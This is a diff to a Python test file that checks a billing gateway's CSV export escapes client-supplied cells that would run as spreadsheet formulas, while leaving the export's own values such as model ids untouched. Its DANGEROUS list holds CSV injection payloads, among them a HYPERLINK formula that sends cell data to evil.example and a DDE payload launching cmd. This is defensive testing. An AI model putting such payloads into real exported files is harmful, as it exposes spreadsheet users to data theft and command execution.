@@ -1,4 +1,5 @@
-"""Billing CSV cells a spreadsheet would run as formulas are escaped (OWASP's CSV injection rule)."""
+"""Billing CSV cells holding text a client chose are escaped against spreadsheet formulas (OWASP's
+CSV injection rule); the export's own values (model ids such as "@cf/...") are written as they are."""
 
 from __future__ import annotations
 
@@ -9,9 +10,11 @@ import time
 import httpx
 import pytest
 
-from gateway.billing.export import INT_COLUMNS, ROW_COLUMNS
-from gateway.billing.formats import CsvWriter, read_rows
+from gateway.billing.export import ROW_COLUMNS, ROWS, record_row
+from gateway.billing.formats import Columns, CsvWriter, read_rows
+from gateway.billing.prices import PriceHistory
 from gateway.fleet.catalog import DEFAULT_MODEL_ID
+from gateway.store.models import UsageRecord
 from tests.gateway.fixtures_e2e import ADMIN_TOKEN, InProcessGateway
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
@@ -19,17 +22,39 @@ DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C ca
 HARMLESS = ["session-1", "plain", "'quoted", "''", "a=b"]
 
 
-def test_cells_that_start_a_formula_are_escaped_and_read_back_unchanged() -> None:
+def test_client_cells_that_start_a_formula_are_escaped_and_read_back_unchanged() -> None:
     out = io.BytesIO()
-    writer = CsvWriter(out, ["value", "n"])
+    columns = Columns(("value", "own", "n"), ints=frozenset({"n"}), client_text=frozenset({"value"}))
+    writer = CsvWriter(out, columns)
     for value in DANGEROUS + HARMLESS:
-        writer.write({"value": value, "n": -5})
+        writer.write({"value": value, "own": value, "n": -5})
     writer.close()
-    cells = [row[0] for row in csv.reader(io.StringIO(out.getvalue().decode(), newline=""))][1:]
+    lines = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))[1:]
+    cells, own = [line[0] for line in lines], [line[1] for line in lines]
     for value, cell in zip(DANGEROUS, cells):
         assert cell == "'" + value, value  # a leading quote: the spreadsheet shows it as text
     assert cells[len(DANGEROUS):] == HARMLESS  # nothing else changes
-    assert read_rows("csv", out.getvalue(), frozenset({"n"})) == [{"value": v, "n": -5} for v in DANGEROUS + HARMLESS]
+    assert own == DANGEROUS + HARMLESS  # a column the gateway fills is never rewritten
+    expected = [{"value": v, "own": v, "n": -5} for v in DANGEROUS + HARMLESS]
+    assert read_rows("csv", out.getvalue(), columns) == expected
+
+
+def test_the_exports_own_columns_keep_model_ids_and_only_session_and_metadata_are_escaped() -> None:
+    record = UsageRecord(
+        request_id="r1", tenant_id="acme", account_id="acc", key_id="k1", model="@cf/meta/llama-3.1-8b-instruct",
+        region="eu", backend_id="b1", session_id="=1+1", started_at=1_800_000_000.0, ended_at=1_800_000_001.0,
+        status="ok", prompt_tokens=3, cached_tokens=0, completion_tokens=2, price_version="unpriced",
+        cost_micro=0, metadata={"note": "-x"},
+    )
+    out = io.BytesIO()
+    writer = CsvWriter(out, ROWS)
+    writer.write(record_row(record, PriceHistory({})))
+    header, line = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))
+    cell = dict(zip(header, line))
+    assert cell["model"] == "@cf/meta/llama-3.1-8b-instruct"  # was "'@cf/..."
+    assert cell["session_id"] == "'=1+1"
+    assert cell["metadata"] == '{"note":"-x"}'  # JSON text starts with "{": never a formula
+    assert read_rows("csv", out.getvalue(), ROWS)[0]["session_id"] == "=1+1"
 
 
 @pytest.mark.slow
@@ -53,7 +78,7 @@ def test_a_formula_in_x_session_affinity_reaches_the_csv_export_escaped(gateway:
     lines = list(csv.reader(io.StringIO(export.text, newline="")))
     column = ROW_COLUMNS.index("session_id")
     assert [line[column] for line in lines[1:]] == ["'" + session]
-    assert [row["session_id"] for row in read_rows("csv", export.content, INT_COLUMNS)] == [session]
+    assert [row["session_id"] for row in read_rows("csv", export.content, ROWS)] == [session]
 
 
 def _iso(t: float) -> str:
